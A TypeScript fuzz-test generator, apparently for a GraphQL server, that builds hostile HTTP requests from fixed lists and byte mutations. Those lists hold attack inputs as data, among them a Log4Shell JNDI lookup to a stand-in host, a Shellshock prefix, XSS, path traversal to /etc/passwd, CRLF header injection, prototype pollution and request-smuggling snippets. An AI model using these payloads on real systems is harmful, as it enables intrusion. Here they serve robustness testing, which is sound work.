// cspell:ignore xchunked fetc jndi
import fc from 'fast-check';
import type { HostileBytes } from './http-exchange.ts';

const methods = [
  'POST',
  'POST',
  'POST',
  'GET',
  'GET',
  'PUT',
  'DELETE',
  'OPTIONS',
  'PATCH',
  'TRACE',
];
const targets = [
  '/graphql',
  '/graphql',
  '/graphql',
  '/graphql?query={__typename}',
  '/graphql?query=mutation{x}',
  '/graphql?query={private{message}}&variables={"a":1}',
  '/graphql?query=%7B%00%7D&query=a',
  '/graphql?extensions=%5B%5D&operationName=a&variables=null',
  '/graphql?access_token=a',
  '/graphql?%FF%FE=%80',
  '/graphql/..%2f..%2fetc/passwd',
  '/graphql#fragment',
  '//graphql',
  '/\\graphql',
  '*',
  '?',
  'graphql',
  'http://localhost/graphql?query={__typename}',
  'http://user:password@evil.test:99999/graphql',
  'http://[::1/graphql',
  'ftp://x',
  '/livez',
  '/readyz?verbose',
  '/.well-known/oauth-protected-resource/graphql',
  '/graphiql/../../package.json',
  '/graphiql/%2e%2e/%2e%2e/package.json',
  `/${'a'.repeat(9_000)}`,
  `/graphql?query=${'%7B'.repeat(2_000)}`,
];

const names = [
  'Authorization',
  'DPoP',
  'Content-Type',
  'Content-Encoding',
  'Accept',
  'Origin',
  'Cookie',
  'Host',
  'Connection',
  'Upgrade',
  'Sec-WebSocket-Key',
  'Sec-WebSocket-Version',
  'Expect',
  'TE',
  'Trailer',
  'Range',
  'If-None-Match',
  'X-Request-Id',
  'traceparent',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'Forwarded',
  'X-HTTP-Method-Override',
  'Access-Control-Request-Method',
  'Access-Control-Request-Headers',
  'Max-Forwards',
  'Keep-Alive',
  '__proto__',
  'constructor',
];

const values = [
  '',
  ' ',
  ',',
  ',,,;;;',
  '*/*',
  'application/json',
  'application/json; charset=utf-8',
  'application/graphql-response+json;q=0.1, */*;q=0',
  'text/event-stream',
  'multipart/mixed;boundary="--a"',
  'multipart/form-data; boundary=a',
  'text/plain',
  'Bearer',
  'Bearer a.b.c',
  'Bearer eyJhbGciOiJub25lIn0.e30.',
  'DPoP a.b.c',
  'Basic OnBhc3N3b3Jk',
  'null',
  'https://evil.test',
  'http://localhost:5173',
  'websocket',
  'h2c',
  'upgrade, keep-alive, close',
  '100-continue',
  'gzip, deflate, br',
  '00-00000000000000000000000000000000-0000000000000000-00',
  '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  'bytes=0-0,1-,-1',
  `\${jndi:ldap://evil.test/a}`,
  '() { :;}; echo',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '%0d%0aX-Evil: 1',
  '-1',
  '9'.repeat(400),
  'x'.repeat(4_000),
  '\u00ff\u0080\u00a0',
];

const bodies = [
  '',
  '{}',
  '[]',
  'null',
  '"a"',
  '{"query":"{ __typename }"}',
  '{"query":"{ public { message } }"}',
  '{"query":"{ private { message } admin { message } }"}',
  '{"query":"mutation { a }"}',
  '{"query":"subscription { clock { time } }"}',
  '{"query":"query A { __typename } query B { __typename }","operationName":"C"}',
  '{"query":"{ __typename }","variables":[],"extensions":1,"operationName":{}}',
  '{"query":"{ __typename }","__proto__":{"query":"{ admin { message } }"}}',
  '{"query":"{ __typename }","query":"{ admin { message } }"}',
  '[{"query":"{ __typename }"},{"query":"{ __typename }"}]',
  '{"query":"{ __typename',
  '\ufeff{"query":"{ __typename }"}',
  '{"query":"{ a(b: \\"\\ud800\\") }","variables":{"\\ud800":1e400}}',
  `{"query":${'['.repeat(5_000)}`,
  `{"query":"{ __typename }","variables":${'{"a":'.repeat(3_000)}1${'}'.repeat(3_000)}}`,
  `{"query":"${'{a'.repeat(1_500)}"}`,
  `{"query":"{ ${'a:__typename '.repeat(1_500)} }"}`,
  `{"query":"${'#'.repeat(60_000)}"}`,
  'query=%7B__typename%7D',
  '--a\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"{__typename}"}\r\n--a--',
  'x'.repeat(110_000),
];

const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');

interface RequestParts {
  readonly method: string;
  readonly target: string;
  readonly headers: readonly (readonly [name: string, value: string])[];
  readonly body: Buffer;
  readonly framing: 'length' | 'chunked';
  readonly chunkSize: number;
}

const body = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...bodies).map((text) => Buffer.from(text)) },
  { weight: 1, arbitrary: fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)) },
);

const parts: fc.Arbitrary<RequestParts> = fc.record({
  method: fc.constantFrom(...methods),
  target: fc.constantFrom(...targets),
  headers: fc.array(fc.tuple(fc.constantFrom(...names), fc.constantFrom(...values)), {
    maxLength: 8,
  }),
  body,
  framing: fc.constantFrom('length', 'length', 'chunked'),
  chunkSize: fc.integer({ min: 1, max: 5_000 }),
});

function encode({ method, target, headers, body, framing, chunkSize }: RequestParts): Buffer {
  const isTyped = headers.some(([name]) => name === 'Content-Type');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    ...(headers.some(([name]) => name === 'Host') ? [] : ['Host: localhost']),
    // So that half of all bodies are read.
    ...(isTyped || method !== 'POST' ? [] : ['Content-Type: application/json']),
    ...headers.map(([name, value]) => `${name}: ${value}`),
    framing === 'length' ? `Content-Length: ${body.length}` : 'Transfer-Encoding: chunked',
    'Connection: close',
    '\r\n',
  ];
  const content =
    framing === 'length' ? body : encodeChunks(body, Math.max(chunkSize, body.length / 50));
  return Buffer.concat([latin1(lines.join('\r\n')), content]);
}

function encodeChunks(bytes: Buffer, size: number): Buffer {
  const chunks: Buffer[] = [];
  const step = Math.ceil(size);
  for (let at = 0; at < bytes.length; at += step) {
    const chunk = bytes.subarray(at, at + step);
    chunks.push(latin1(`${chunk.length.toString(16)}\r\n`), chunk, latin1('\r\n'));
  }
  return Buffer.concat([...chunks, latin1('0\r\n\r\n')]);
}

/** Divides bytes into as many writes as there are places. */
function divide(bytes: Buffer, places: readonly number[]): Buffer[] {
  const cuts = [...new Set(places.map((place) => Math.floor(place * bytes.length)))].sort(
    (a, b) => a - b,
  );
  return [0, ...cuts].map((start, index) => bytes.subarray(start, cuts[index] ?? bytes.length));
}

const places = fc.array(fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }), {
  maxLength: 3,
});

/** Complete requests with hostile targets, headers and bodies: each must have its response. */
export const hostileRequest: fc.Arbitrary<HostileBytes> = fc
  .tuple(parts, places)
  .map(([request, cuts]) => ({ writes: divide(encode(request), cuts), kind: 'request' }));

/** A change of bytes, at a place between 0 and 1. */
type Mutation =
  | { readonly kind: 'replace' | 'insert'; readonly at: number; readonly bytes: Buffer }
  | { readonly kind: 'remove' | 'repeat'; readonly at: number; readonly count: number };

const snippets = [
  '\r\n',
  '\n',
  '\r',
  '\0',
  ' ',
  '\t',
  ':',
  '\r\n\r\n',
  '\n\n',
  '\r\n ',
  'HTTP/1.1',
  'HTTP/0.9',
  'HTTP/9.9',
  'Content-Length: 5\r\n',
  'Content-Length: -1\r\n',
  'Content-Length: 99999999999999999999\r\n',
  'Transfer-Encoding: chunked\r\n',
  'Transfer-Encoding: xchunked\r\n',
  'Transfer-Encoding : chunked\r\n',
  'GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n',
  '0\r\n\r\n',
  'ffffffffffffffff\r\n',
  '\u0080\u00ff',
  '\u0016\u0003\u0001\u0002\u0000',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];

const position = fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true });
// Most of the grammar is in the first bytes, and what is wrong in the first line is found early.
const early = position.map((at) => at ** 1.5);
const replacement = fc.oneof(
  fc.constantFrom(...snippets).map(latin1),
  fc.uint8Array({ minLength: 1, maxLength: 8 }).map((bytes) => Buffer.from(bytes)),
);
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constantFrom('replace', 'insert'), at: early, bytes: replacement }),
  fc.record({
    kind: fc.constantFrom('remove', 'repeat'),
    at: early,
    count: fc.integer({ min: 1, max: 60 }),
  }),
);

function mutate(bytes: Buffer, change: Mutation): Buffer {
  const at = Math.floor(change.at * bytes.length);
  const [before, after] = [bytes.subarray(0, at), bytes.subarray(at)];
  switch (change.kind) {
    case 'insert':
      return Buffer.concat([before, change.bytes, after]);
    case 'replace':
      return Buffer.concat([before, change.bytes, after.subarray(change.bytes.length)]);
    case 'remove':
      return Buffer.concat([before, after.subarray(change.count)]);
    case 'repeat':
      return Buffer.concat([before, after.subarray(0, change.count), after]);
  }
}

/** Requests with changed bytes: what they are, if anything, is for the server to find out. */
export const hostileBytes: fc.Arbitrary<HostileBytes> = fc
  .tuple(parts, fc.array(mutation, { minLength: 1, maxLength: 2 }), places)
  .map(([request, mutations, cuts]) => ({
    writes: divide(mutations.reduce(mutate, encode(request)), cuts),
    kind: 'anything',
  }));
